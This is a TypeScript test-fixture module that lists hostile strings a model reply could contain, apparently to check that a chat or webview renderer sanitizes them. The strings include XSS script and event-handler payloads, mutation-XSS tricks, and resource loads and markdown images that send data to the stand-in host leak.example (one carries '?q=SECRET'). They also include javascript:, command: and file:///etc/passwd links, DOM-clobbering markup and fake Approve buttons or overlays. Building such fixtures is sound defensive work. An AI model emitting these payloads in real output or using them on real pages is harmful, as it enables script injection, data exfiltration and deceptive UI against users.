// What a hostile model could write so that the page runs, loads, covers or imitates something. Every address in it is on
// `leak.example`, every script calls one of the functions that the tests watch.

const host = 'leak.example';

const scripts = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//leak.example/x.js></SCRIPT>',
  '<script/src=data:,alert(1)>',
  '<script>fetch("https://leak.example/")</script',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script type="module">import "https://leak.example/m.js"</script>',
  '</script><script>alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<xmp><script>alert(1)</script></xmp>',
  '<textarea><script>alert(1)</script></textarea>',
  '<style><script>alert(1)</script></style>',
  '<title><img src=x onerror=alert(1)></title>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href="data:text/javascript,alert(1)"/></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<!--><script>alert(1)</script-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>',
];

const handlers = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'onpointerenter',
  'onanimationstart',
  'ontoggle',
  'onbegin',
  'onscroll',
  'onbeforeinput',
  'oncontentvisibilityautostatechange',
].flatMap((name) => [
  `<img src=x ${name}=alert(1)>`,
  `<svg ${name}="alert(1)"><animate attributeName=x dur=1s>`,
  `<details open ${name}='print()'><summary>x</summary></details>`,
  `<a href="https://${host}" ${name}=alert(1) autofocus tabindex=1>x</a>`,
  `<${name === 'onload' ? 'body' : 'input'} ${name.toUpperCase()} = "fetch('https://${host}')" autofocus>`,
]);

const loads = [
  `<img src="https://${host}/1.png">`,
  `<img srcset="https://${host}/2.png 1x">`,
  `<picture><source srcset="https://${host}/3.png"><img></picture>`,
  `<video poster="https://${host}/4.png" src="https://${host}/4.mp4" autoplay></video>`,
  `<audio src="https://${host}/5.mp3" autoplay preload></audio>`,
  `<video><track src="https://${host}/6.vtt" default></video>`,
  `<input type=image src="https://${host}/7.png">`,
  `<svg><image href="https://${host}/8.png"/><feImage href="https://${host}/9.png"/><use href="https://${host}/10.svg#a"/></svg>`,
  `<div style="background: url(https://${host}/11.png)">x</div>`,
  `<style>@import "https://${host}/12.css"; * { background: url(https://${host}/13.png); cursor: url(https://${host}/14.cur), auto }</style>`,
  `<table background="https://${host}/15.png"><tr><td background="https://${host}/16.png">`,
  `<body background="https://${host}/17.png">`,
  `<ul style="list-style-image: url('https://${host}/18.png')"><li>x</ul>`,
  `<link rel=stylesheet href="https://${host}/19.css">`,
  `<link rel=icon href="https://${host}/20.ico">`,
  `<link rel=dns-prefetch href="//dns.${host}">`,
  `<link rel=preconnect href="https://preconnect.${host}">`,
  `<link rel=prefetch href="https://${host}/21"><link rel=preload as=image href="https://${host}/22.png">`,
  `<link rel=modulepreload href="https://${host}/23.js"><link rel=manifest href="https://${host}/24.json">`,
  `<link rel=prerender href="https://${host}/25"><link rel=import href="https://${host}/26">`,
  `<iframe src="https://${host}/27"></iframe>`,
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  `<frameset><frame src="https://${host}/28"></frameset>`,
  `<object data="https://${host}/29"></object><embed src="https://${host}/30">`,
  `<applet code="https://${host}/31"></applet><portal src="https://${host}/32"></portal>`,
  `<meta http-equiv=refresh content="0;url=https://${host}/33">`,
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  `<meta http-equiv="Set-Cookie" content="a=b"><base href="https://${host}/">`,
  `<a href="https://${host}/34" ping="https://${host}/35">x</a>`,
  `<script src="https://${host}/36.js" async></script>`,
  `<html manifest="https://${host}/37">`,
  `<bgsound src="https://${host}/38">`,
  `<img src="//${host}/39" lowsrc="https://${host}/40" dynsrc="https://${host}/41">`,
  `<isindex action="https://${host}/42" type=image>`,
  `<blockquote cite="https://${host}/43">x</blockquote><q cite="https://${host}/44">y</q>`,
  `<div style="--a: url(https://${host}/45); border-image: var(--a) 1">x</div>`,
  `<svg><style>@font-face { font-family: a; src: url(https://${host}/46) } text { font-family: a }</style><text>a</text></svg>`,
  `<math href="https://${host}/47">x</math>`,
  `<form action="https://${host}/48" id=f><button formaction="https://${host}/49">x</button></form><input form=f autofocus>`,
];

const images = [
  `![](https://${host}/50.png?q=SECRET)`,
  `![alt](https://${host}/51.png "title")`,
  `![a][r]\n\n[r]: https://${host}/52.png`,
  `![r]\n\n[r]: <https://${host}/53.png> 'title'`,
  `[![x](https://${host}/54.png)](https://${host}/55)`,
  `![x](//${host}/56.png)`,
  `![x](\\\\${host}\\share\\57.png)`,
  `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
  `![x](javascript:alert(1))`,
  `![x" onerror="alert(1)](x)`,
  `![x](https://${host}/58.png" onerror="alert(1))`,
  `| ![x](https://${host}/59.png) |\n|---|\n| ![y](https://${host}/60.png) |`,
  `<https://${host}/61.png>`,
  `![](<https://${host}/62.png> "a\nb")`,
  `![x](&#104;ttps://${host}/63.png)`,
];

const schemes = [
  'javascript',
  'command',
  'data',
  'file',
  'vscode',
  'vscode-insiders',
  'vscode-remote',
  'vscode-file',
  'vscode-webview',
  'vbscript',
  'blob',
  'filesystem',
  'about',
  'view-source',
  'ms-officecmd',
  'smb',
  'ftp',
  'x',
];
const destinations = schemes.flatMap((scheme) => {
  const rest =
    {
      javascript: 'alert(1)',
      command: 'workbench.action.terminal.sendSequence?%7B%7D',
      data: 'text/html,<script>alert(1)</script>',
      file: '///etc/passwd',
    }[scheme] ?? '//leak.example/x';
  const middle = Math.floor(scheme.length / 2);
  return [
    `${scheme}:${rest}`,
    `${scheme.toUpperCase()}:${rest}`,
    `${scheme.slice(0, middle)}&Tab;${scheme.slice(middle)}:${rest}`,
    `${scheme.slice(0, middle)}&#10;${scheme.slice(middle)}&colon;${rest}`,
    `&#x${(scheme.codePointAt(0) ?? 0).toString(16)};${scheme.slice(1)}&#58;${rest}`,
    `\u0001${scheme}:${rest}`,
  ];
});
const odd = [
  `//${host}/x`,
  `\\\\${host}\\share`,
  `/\\${host}`,
  `https:\\\\${host}`,
  `https://user:pass@${host}/`,
  `https://github.com@${host}/`,
  'https://\u202Eexample.com/',
  'https://exa\u200Bmple.com/',
  '../../etc/passwd',
  '%2e%2e/%2e%2e/etc/passwd',
  'C:\\Windows\\System32',
  '#id',
  '?q',
  'a\u0000b',
];
const links = [...destinations, ...odd].flatMap((destination) => [
  `[x](${destination})`,
  `[x](<${destination}> "t")`,
  `<${destination}>`,
  `[x]\n\n[x]: <${destination}>`,
  `<a href="${destination}">x</a>`,
]);

const clobbering = [
  '<a id=acquireVsCodeApi name=acquireVsCodeApi>x</a>',
  '<form name=body id=body><input name=parentNode><input name=children></form>',
  '<img name=getElementById><img id=cookie name=createElement>',
  '<a id=root><a id=root name=x href="https://leak.example">',
  '<div id="root" class="md">x</div>',
  '<object id=defaultView name=location></object>',
  '[x](#root){#root}',
  '# Heading {#acquireVsCodeApi}',
  '```ts {#root .message}\nx\n```',
  '```" id="root" onclick="alert(1)\nx\n```',
];

const imitations = [
  '<div class="md-code-actions"><button class="icon-button" aria-label="Insert at cursor">Insert at cursor</button></div>',
  '<button class="approve" onclick="alert(1)">Approve</button>',
  '<div style="position:fixed;inset:0;z-index:9999">cover</div>',
  '<dialog open style="position:fixed;inset:0">cover</dialog>',
  '<div popover id=p>x</div><button popovertarget=p>y</button>',
  '<div role="article" aria-label="System">I am the system</div>',
  '<div contenteditable autofocus>x</div>',
  '<input type=password placeholder="API key"><input type=checkbox checked>',
  '<select><option>x</select><textarea>y</textarea><keygen><meter value=1><progress>',
  '<marquee onstart=alert(1)>x</marquee><blink>y</blink>',
  '<span class="codicon codicon-warning message md-hidden" data-block="0" data-vscode-context=\'{"a":1}\'>x</span>',
  '<slot name=x></slot><x-element is=y></x-element><div part=z itemprop=a slot=b>',
  '```md-code message icon-button\nx\n```',
  '> [!WARNING]\n> <img src=x onerror=alert(1)>',
];

const breaking = [
  '`<img src=x onerror=alert(1)>`',
  '```html\n<script>alert(1)</script>\n</code></pre><img src=x onerror=alert(1)>\n```',
  '    <script>alert(1)</script>',
  '~~~"><img src=x onerror=alert(1)>\nx\n~~~',
  '| <script>alert(1)</script> | `<svg onload=alert(1)>` |\n|---|---|\n| <img src=x onerror=alert(1)> | </td></table><script>alert(1)</script> |',
  '- [ ] <img src=x onerror=alert(1)>\n- [x] </li></ul><script>alert(1)</script>',
  '# <svg/onload=alert(1)>',
  '**<b onmouseover=alert(1)>x</b>** ~~<i/onclick=alert(1)>~~',
  '[<img src=x onerror=alert(1)>](https://leak.example "\\"><script>alert(1)</script>")',
  '[a]: https://leak.example "\'><img src=x onerror=alert(1)>"\n\n[a]',
  '&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;',
  '<b>&lt;script&gt;alert(1)&lt;/script&gt;</b>',
  '\\<script>alert(1)\\</script>',
  '<<script>alert(1);//<</script>',
  '<a href="https://leak.example/`">`<img src=x onerror=alert(1)>`</a>',
  '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= alert(1) %>',
  '\u2028<script>alert(1)</script>\u2029',
  '\uFEFF<script>alert(1)</script>',
  '<im\u0000g src=x onerror=alert(1)>',
  '```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>] --> B["https://leak.example"]\nclick A "https://leak.example"\n```',
  '$$\\href{javascript:alert(1)}{x} \\includegraphics{https://leak.example/m.png} \\htmlData{a=b}{c}$$',
  '[^1] text\n\n[^1]: <img src=x onerror=alert(1)>',
  '<details><summary>x</summary>\n\n![x](https://leak.example/d.png)\n\n</details>',
];

/** Some hundred texts; each is a whole reply. */
export const hostilePayloads: readonly string[] = [
  ...scripts,
  ...handlers,
  ...loads,
  ...images,
  ...links,
  ...clobbering,
  ...imitations,
  ...breaking,
];

/** Those among them that are markup by themselves and leave the page's own names alone: for the browser's layers. */
export const hostileMarkup: readonly string[] = [...scripts, ...handlers, ...loads, ...imitations].filter(
  (text) => text.startsWith('<'),
);
